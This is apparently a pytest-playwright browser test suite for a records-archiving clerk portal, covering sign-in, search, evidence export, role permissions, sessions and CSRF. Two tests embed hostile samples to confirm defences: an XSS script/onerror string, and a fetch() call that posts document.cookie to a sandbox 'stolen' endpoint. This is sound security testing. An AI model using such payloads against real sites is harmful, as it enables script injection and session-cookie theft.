"""The clerk portal in a real Chromium (pytest-playwright): sign-in, search, captures, export, roles, hostile content."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, expect
from sqlmodel import select

from agent.services import Services, open_services
from agent.settings import load_settings
from agent.web import auth, records
from agent.web.app import create_app
from sandbox.server import ThreadedServer
from storage.models import Artifact, AuditEntry, Finding, Post, WebSession
from storage.search import Query, search
from tests.conftest import Site, run_cli

PASSWORD = "correct-horse-battery"


@dataclass
class Portal:
    url: str
    services: Services
    config: Path

    def audit(self, action: str) -> list[AuditEntry]:
        with self.services.db.session() as s:
            return [e for e in s.exec(select(AuditEntry)).all() if e.action == action]


@pytest.fixture
def portal(archive: Path) -> Iterator[Portal]:
    services = open_services(load_settings(archive))
    with services.db.session() as s:
        for name, role in (("clara", "clerk"), ("sam", "supervisor"), ("ada", "admin")):
            auth.create_user(s, name, role, PASSWORD)
    server = ThreadedServer(create_app(lambda: services))
    server.start()
    yield Portal(server.base_url, services, archive)
    server.stop()
    services.close()


def sign_in(page: Page, portal: Portal, name: str, password: str = PASSWORD) -> None:
    page.goto(portal.url + "/")
    expect(page).to_have_url(re.compile(r"/login\?next=/$"))
    page.fill("input[name=name]", name)
    page.fill("input[name=password]", password)
    page.click("button[type=submit]")


def test_a_clerk_signs_in_searches_opens_a_capture_and_exports_a_verifiable_package(
    page: Page, portal: Portal, tmp_path: Path
) -> None:
    sign_in(page, portal, "clara")
    expect(page.locator("h1")).to_have_text("Watched accounts")
    page.click("nav >> text=Search")
    page.fill("input[name=q]", "story")
    page.select_option("select[name=account]", "library")
    page.click("form.filters button")
    hit = page.locator(".hit", has_text="Story time moves to Wednesdays.")
    expect(hit).to_have_count(1)
    hit.locator("a", has_text="capture").click()
    expect(page.locator("text=verified")).to_be_visible()
    expect(page.locator("img.shot").first).to_be_visible()
    expect(page.locator(".versions .version")).to_have_count(2)
    expect(page.locator("li.deleted")).to_have_count(2)  # the deleted post and its comment
    page.click("text=Export evidence of this account")
    page.fill("input[name=reason]", "Public records request PRR-2026-200")
    with page.expect_download() as download:
        page.click("main form button[type=submit]")
    package = tmp_path / download.value.suggested_filename
    download.value.save_as(package)
    verified = run_cli("evidence", "verify", str(package))
    assert verified.exit_code == 0, verified.stdout
    assert [e.actor for e in portal.audit("search")] == ["clara"]
    assert [e.details["reason"] for e in portal.audit("export")] == ["Public records request PRR-2026-200"]
    assert any(e.target.startswith("capture:") for e in portal.audit("view"))


def test_a_clerk_cannot_resolve_findings_or_manage_users(page: Page, portal: Portal) -> None:
    sign_in(page, portal, "clara")
    page.goto(portal.url + "/findings/1")
    expect(page.locator("h1")).to_contain_text("Finding 1")
    expect(page.locator("button", has_text="Resolve")).to_have_count(0)
    csrf = page.locator("form.signout input[name=csrf]").get_attribute("value")
    refused = page.request.post(portal.url + "/findings/1/resolve", form={"csrf": csrf or "", "why": "x"})
    assert refused.status == 403
    assert page.goto(portal.url + "/users").status == 403  # type: ignore[union-attr]
    assert page.goto(portal.url + "/audit").status == 403  # type: ignore[union-attr]
    assert [e.details["needs"] for e in portal.audit("denied")] == ["supervisor", "admin", "admin"]


def test_a_supervisor_resolves_a_finding_with_a_reason(page: Page, portal: Portal) -> None:
    sign_in(page, portal, "sam")
    page.goto(portal.url + "/findings/1")
    page.fill("input[name=why]", "Post restored after review; edit was approved by the PIO")
    page.click("button:has-text('Resolve')")
    expect(page.locator("dd", has_text="resolved: Post restored")).to_be_visible()
    assert run_cli("--config", str(portal.config), "findings", "show", "1", "--json").stdout.count('"resolved"') >= 1


def test_an_admin_adds_a_user_and_reads_the_intact_audit_log(page: Page, portal: Portal) -> None:
    sign_in(page, portal, "ada")
    page.goto(portal.url + "/users")
    page.fill("input[name=name]", "dana")
    page.select_option("select[name=role]", "clerk")
    page.fill("input[name=password]", "short")
    page.click("form.stack button")
    expect(page.locator(".error")).to_contain_text("at least 12 characters")
    page.fill("input[name=name]", "dana")
    page.fill("input[name=password]", "a-long-enough-password")
    page.click("form.stack button")
    expect(page.locator("td", has_text="dana")).to_be_visible()
    page.goto(portal.url + "/audit")
    expect(page.locator("text=intact")).to_be_visible()
    expect(page.locator("td", has_text="user_add")).to_have_count(1)


def test_post_text_with_a_script_renders_as_text(page: Page, portal: Portal, site: Site) -> None:
    hostile = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    site.admin.add_post("library", hostile)
    assert run_cli("--config", str(portal.config), "check", "library").exit_code == 0
    sign_in(page, portal, "clara")
    page.goto(portal.url + "/search?q=script")
    expect(page.locator(".hit .text").first).to_have_text(hostile)
    assert page.title() != "owned" and page.locator(".hit img").count() == 0


def test_a_captured_page_cannot_read_the_portals_cookies(page: Page, portal: Portal, site: Site) -> None:
    steal = (f"fetch('{site.base_url}/_admin/inbox/stolen', {{method: 'POST', mode: 'no-cors', "
             "body: JSON.stringify({cookie: document.cookie, origin: location.origin})})")
    site.admin.patch_account("library", script=steal)
    assert run_cli("--config", str(portal.config), "check", "library").exit_code == 0
    site.state.inbox.clear()  # the capture itself ran the page's script on the sandbox: not the portal
    sign_in(page, portal, "clara")
    with portal.services.db.session() as s:
        dom = s.exec(select(Artifact).where(Artifact.kind == "dom")).all()[-1]
    url = f"{portal.url}/artifacts/{dom.sha256}"
    page.goto(f"{portal.url}/captures/{dom.run_id}")
    with page.expect_download() as download:
        page.click(f"a[href='/artifacts/{dom.sha256}?download=1']")
    assert download.value.suggested_filename.endswith(".html.txt")
    with page.expect_download() as direct:
        try:
            page.goto(url)  # even opened directly, it is a download, never a page
        except PlaywrightError as exc:
            assert "Download is starting" in str(exc)
    assert direct.value.suggested_filename.endswith(".html.txt")
    response = page.request.get(url)
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.headers["content-security-policy"].startswith("sandbox")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"] == "application/octet-stream"
    session = next(c for c in page.context.cookies() if c["name"] == "cw_session")
    assert session["httpOnly"] and session["sameSite"] == "Strict"
    assert "cw_session" not in page.evaluate("document.cookie")
    assert [m for m in site.state.inbox if m["route"] == "stolen"] == []


def test_sign_in_rotates_sessions_expires_idle_ones_and_locks_after_failures(page: Page, portal: Portal) -> None:
    sign_in(page, portal, "clara")
    first = next(c["value"] for c in page.context.cookies() if c["name"] == "cw_session")
    page.context.clear_cookies()
    sign_in(page, portal, "clara")
    second = next(c["value"] for c in page.context.cookies() if c["name"] == "cw_session")
    assert first != second
    with portal.services.db.session() as s:
        for row in s.exec(select(WebSession)).all():
            row.last_seen_at -= timedelta(hours=1)
            s.add(row)
    page.goto(portal.url + "/findings")
    expect(page).to_have_url(re.compile(r"/login\?next=/findings"))
    for _ in range(5):
        page.fill("input[name=name]", "sam")
        page.fill("input[name=password]", "not-the-password")
        page.click("button[type=submit]")
        expect(page.locator(".error")).to_be_visible()
    page.fill("input[name=name]", "sam")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    expect(page.locator(".error")).to_contain_text("locked")
    assert len(portal.audit("login_failed")) == 6


def test_forms_without_the_csrf_token_are_refused(page: Page, portal: Portal) -> None:
    sign_in(page, portal, "sam")
    response = page.request.post(portal.url + "/findings/1/ack", form={"note": "no token"})
    assert response.status == 400
    forged = page.request.post(portal.url + "/login", form={"name": "sam", "password": PASSWORD})
    assert forged.status == 400


def test_search_says_when_it_shows_only_the_newest_and_filters_by_finding_before_the_limit(
    page: Page, portal: Portal, monkeypatch: pytest.MonkeyPatch
) -> None:
    [newest] = search(portal.services.db, Query(kind="post", limit=1))
    with portal.services.db.session() as s:  # a flagged post that is not the newest one
        flagged = next(f for f in s.exec(select(Finding)).all()
                       if f.subject.startswith("post:") and f.subject != f"post:{newest.platform_id}")
        post = s.exec(select(Post).where(Post.account_id == flagged.account_id,
                                         Post.platform_id == flagged.subject.removeprefix("post:"))).one()
    monkeypatch.setattr(records, "SEARCH_LIMIT", 1)
    sign_in(page, portal, "clara")
    page.goto(portal.url + "/search?item=post")
    expect(page.locator(".hit")).to_have_count(1)
    expect(page.locator("text=the newest 1; narrow the search")).to_be_visible()
    page.goto(portal.url + f"/search?item=post&kind={flagged.kind}")  # the filter applies before the limit
    expect(page.locator(".hit", has_text=post.text.splitlines()[0][:40])).to_have_count(1)
